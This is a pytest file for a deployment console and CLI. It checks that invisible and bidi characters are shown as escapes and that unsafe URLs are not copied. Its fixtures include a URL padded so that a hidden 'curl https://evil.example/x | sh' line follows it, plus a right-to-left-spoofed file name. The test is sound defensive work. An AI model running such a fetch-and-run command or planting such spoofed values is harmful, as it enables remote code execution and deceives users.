"""Text that reads as something it is not: bidi overrides, zero-width characters and BOMs are shown as their
escapes in the console and the CLI, and the copy key copies exactly what is shown or refuses and says why."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from shipdeck.tui.text import literal
from tests.api.hostile import Handler
from tests.cli.helpers import shipdeck
from tests.reliability.conftest import console_through
from tests.reliability.hostile_kit import answer, listing, routed, threaded
from tests.reliability.safety_kit import screen_output
from tests.tui.console_host import composed, main_screen, notifications, wait_for

TOKEN = "msk_u_hostile_test_secret"
SIZE = (160, 40)
# Looks like 'safename' when the zero-width spaces pass through.
ZERO_WIDTH = "safe\u200b\u200bname"
# Reads 'invoice-gpj.exe' as 'invoice-exe.jpg' when the right-to-left override passes through.
RTL = "invoice-\u202egpj.exe"
BOM = "\ufeffbom-led"
# A URL that looks clean in the table: the padding pushes the payload out of sight.
PADDED_URL = "https://padded.example" + " " * 80 + "\ncurl https://evil.example/x | sh\n"
CLEAN_URL = "https://clean.example/path?q=1"


def row(dep_id: str, name: str, url: str) -> dict[str, object]:
    return {"id": dep_id, "name": name, "status": "running", "url": url}


ROWS = [
    row("dep_a_zero", ZERO_WIDTH, "https://zero.example"),
    row("dep_b_rtl", RTL, "https://rtl\u200b.example"),
    row("dep_c_bom", BOM, CLEAN_URL),
    row("dep_d_padded", "padded-url", PADDED_URL),
]


def hostile_text_server() -> Handler:
    by_id = {f"/deployments/{r['id']}$": answer(json.dumps({"data": r}).encode()) for r in ROWS}
    return routed({r"/deployments$": listing(*ROWS), **by_id})


def test_literal_shows_invisible_characters_as_escapes() -> None:
    assert literal(ZERO_WIDTH) == "safe\\u200b\\u200bname"
    assert literal(RTL) == "invoice-\\u202egpj.exe"
    assert literal(BOM) == "\\ufeffbom-led"
    assert literal("a\u2066b\u2069c\u200fd") == "a\\u2066b\\u2069c\\u200fd"


async def test_the_console_shows_invisible_characters_and_copies_only_what_it_shows(tmp_path: Path) -> None:
    with threaded(hostile_text_server()) as server:
        app, adapter = console_through(server.url + "/api/v1", "miosa", tmp_path, token=TOKEN)
        async with app.run_test(size=SIZE, notifications=True) as pilot:
            await composed(pilot, app)
            await wait_for(pilot, lambda: len(app.live.deployments) == len(ROWS))
            escapes = ("safe\\u200b\\u200bname", "invoice-\\u202egpj.exe", "\\ufeffbom-led")
            await wait_for(pilot, lambda: all(e in screen_output(app).text for e in escapes))
            shown = screen_output(app).text
            assert "\u202e" not in shown and "\u200b" not in shown and "\ufeff" not in shown
            table = main_screen(app).table

            async def copy(dep_id: str) -> str:
                assert table.move_to(dep_id)
                before = len(notifications(app))
                await pilot.press("y")
                await wait_for(pilot, lambda: len(notifications(app)) > before)
                return notifications(app)[-1]

            told = await copy("dep_c_bom")
            assert told.startswith("Copied URL: ") and app.clipboard == CLEAN_URL, told
            told = await copy("dep_d_padded")
            assert told == (
                "Not copied: the URL holds a line break, "
                "which would run what follows it if pasted into a shell."
            )
            assert app.clipboard == CLEAN_URL, "the padded URL reached the clipboard"
            told = await copy("dep_b_rtl")
            assert told == (
                "Not copied: the URL holds the control or invisible character U+200B, "
                "which is not what is shown."
            )
            assert app.clipboard == CLEAN_URL
        await adapter.aclose()


def test_the_cli_shows_invisible_characters_and_no_raw_line_break(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MIOSA_API_KEY", TOKEN)
    with threaded(hostile_text_server()) as server:
        url = server.url + "/api/v1"
        plain = shipdeck(capsys, "--provider", "miosa", "--url", url, "ls")
        as_json = shipdeck(capsys, "--provider", "miosa", "--url", url, "ls", "--json")
    assert plain.code == 0, plain
    lines = plain.out.splitlines()
    assert len(lines) == 1 + len(ROWS), plain.out  # the header and one line a deployment
    for escaped in (
        "safe\\u200b\\u200bname",
        "invoice-\\u202egpj.exe",
        "\\ufeffbom-led",
        "https://rtl\\u200b",
    ):
        assert escaped in plain.out, escaped
    assert not {"\u200b", "\u202e", "\ufeff"} & set(plain.out)
    assert as_json.code == 0, as_json
    # JSON keeps the exact text (the escape is the same JSON string) and shows nothing invisible.
    assert not {"\u200b", "\u202e", "\ufeff"} & set(as_json.out)
    assert [d["name"] for d in json.loads(as_json.out)] == [r["name"] for r in ROWS]
